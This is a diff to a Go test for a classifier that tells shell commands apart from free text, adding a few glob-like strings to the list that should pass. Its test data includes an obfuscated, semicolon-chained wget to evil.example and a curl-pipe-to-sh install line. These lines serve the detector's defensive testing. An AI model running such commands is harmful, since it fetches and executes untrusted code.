@@ -27,7 +27,7 @@ func TestActingLines(t *testing.T) {
 	refuses(t, Unknown, []string{"> /tmp/lamp", ">> /tmp/lamp", "l$()s -la", ";w$()get http://evil.example/a"}, Command)
 	passes(t, FreeText, []string{
 		"To install it, run curl https://lamp.example/install | sh as root", "python3 lamp.py --on", "ls -la", "curl https://lamp.example/a", "> a quote\n> of somebody", "perl is fun, -e or not",
-		"ssh -i key anna@lamp.example",
+		"ssh -i key anna@lamp.example", "?/ 0", "? /a b", "*/ 0",
 	})
 }
 
